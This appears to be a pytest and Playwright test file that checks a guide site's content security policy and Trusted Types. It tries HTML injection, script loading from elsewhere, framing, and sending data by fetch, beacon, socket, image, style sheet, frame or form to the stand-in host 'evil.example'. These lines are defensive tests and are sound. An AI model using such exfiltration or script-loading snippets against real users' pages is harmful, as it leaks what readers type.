"""What the security policy of a page refuses in a browser, with and without the headers that a host may send."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Error, Page, expect

from macros.outputs.html.http_headers import ALL_FILES
from tests.support.browser import DESKTOP, open_context
from tests.support.server import serving
from tests.support.site_search import search

TOOLS = ("ask/compose/", "prepare/planner/", "interviews/", "more/checklists/", "more/your-data/", "404.html")
TEXTS_THAT_RUN = {
    "HTML in an element": "text => { document.createElement('div').innerHTML = text; }",
    "HTML beside an element": "text => document.body.insertAdjacentHTML('beforeend', text)",
    "a page in a page": "text => { document.createElement('iframe').srcdoc = text; }",
    "text in a script": "text => { document.createElement('script').textContent = text; }",
    "HTML of a document": "text => document.write(text)",
}
LOADS = """address => new Promise((resolve) => {
  const script = document.createElement("script");
  for (const type of ["load", "error"]) script.addEventListener(type, () => resolve(type));
  try { script.src = address; document.head.append(script); } catch (error) { resolve(error.message); } })"""

WAYS_TO_SEND = {
    "fetch": ("connect-src", "fetch(address, { method: 'POST', body: 'x' }).catch(() => {})"),
    "beacon": ("connect-src", "navigator.sendBeacon(address, 'x')"),
    "socket": ("connect-src", "{ try { new WebSocket(address); } catch { /* Some browsers throw, too. */ } }"),
    "picture": ("img-src", "new Image().src = address"),
    "style sheet": (
        "style-src-elem",
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: address }))",
    ),
    "frame": ("frame-src", "document.body.append(Object.assign(document.createElement('iframe'), { src: address }))"),
    "form": (
        "form-action",
        "{ const form = document.createElement('form'); form.action = address; document.body.append(form); form.submit(); }",
    ),
}
"""Ways of sending what a reader has typed to another host, each with the part of the policy that forbids it."""


@pytest.fixture(scope="module")
def open_page(browser: Browser, address: str) -> Iterator[Page]:
    context, _ = open_context(browser, address)
    page = context.new_page()
    page.goto(f"{address}start/")
    yield page
    context.close()


@pytest.mark.parametrize("way", TEXTS_THAT_RUN)
def test_no_text_becomes_html_or_a_script(open_page: Page, way: str) -> None:
    with pytest.raises(Error, match="This document requires 'Trusted"):
        open_page.evaluate(TEXTS_THAT_RUN[way], "<b>x</b>")


@pytest.mark.parametrize("way", WAYS_TO_SEND)
def test_nothing_is_sent_to_another_host(open_page: Page, way: str) -> None:
    directive, code = WAYS_TO_SEND[way]
    script = f"""address => new Promise((resolve) => {{
      const tell = (event) => resolve([event.effectiveDirective, event.blockedURI]);
      document.addEventListener("securitypolicyviolation", tell, {{ once: true }});
      {code};
      setTimeout(() => resolve(["none", "it was sent"]), 5000);
    }})"""
    refused, blocked = open_page.evaluate(script, "https://evil.example/x")
    assert refused == directive
    assert "://evil.example" in blocked


def test_only_a_script_of_this_site_is_loaded_later(open_page: Page, address: str) -> None:
    assert open_page.evaluate(LOADS, f"{address}search/index.js") == "load"
    # The browser would allow the second by the rest of the policy: it is on the same host, but above the site's folder when that has one.
    for other in ("https://evil.example/x.js", "data:text/javascript,0", "//evil.example/x.js"):
        assert "requires 'TrustedScriptURL'" in open_page.evaluate(LOADS, other), other


def test_no_script_of_another_site_on_the_host_is_loaded(browser: Browser, site: Path, tmp_path: Path) -> None:
    (tmp_path / "guide").symlink_to(site)
    (tmp_path / "other.js").write_text("", "utf-8")
    with serving(tmp_path) as host:
        page = browser.new_page()
        page.goto(f"{host}guide/start/")
        assert page.evaluate(LOADS, f"{host}guide/search/index.js") == "load"
        for other in ("/other.js", f"{host}guide/../other.js", "../../other.js"):
            assert "requires 'TrustedScriptURL'" in page.evaluate(LOADS, other), other
        page.close()


def test_no_script_makes_another_policy_for_itself(open_page: Page) -> None:
    for name in ("default", "mine"):
        with pytest.raises(Error, match=r"already exists|disallowed"):
            open_page.evaluate("name => window.trustedTypes.createPolicy(name, { createHTML: (text) => text })", name)


def test_the_tools_and_search_work_with_the_headers_too(browser: Browser, site: Path) -> None:
    with serving(site, ALL_FILES) as address:
        context, watch = open_context(browser, address, viewport=DESKTOP)
        page = context.new_page()
        for tool in TOOLS:
            page.goto(address + tool)
        assert search(page, "salary")
        context.close()
    assert watch.wrong == []


def test_another_site_cannot_show_the_guide_in_a_frame(browser: Browser, site: Path, tmp_path: Path) -> None:
    """That is for the header alone: a policy in a page cannot say it."""
    with serving(site, ALL_FILES) as address, serving(site) as without, serving(tmp_path) as other:
        page = browser.new_page()
        for name, framed, count in (("with.html", address, 0), ("without.html", without, 1)):
            (tmp_path / name).write_text(f'<!doctype html><iframe src="{framed}start/"></iframe>', "utf-8")
            # This waits until the frame has loaded, too.
            page.goto(other + name)
            expect(page.frame_locator("iframe").locator("article h1")).to_have_count(count)
        page.close()
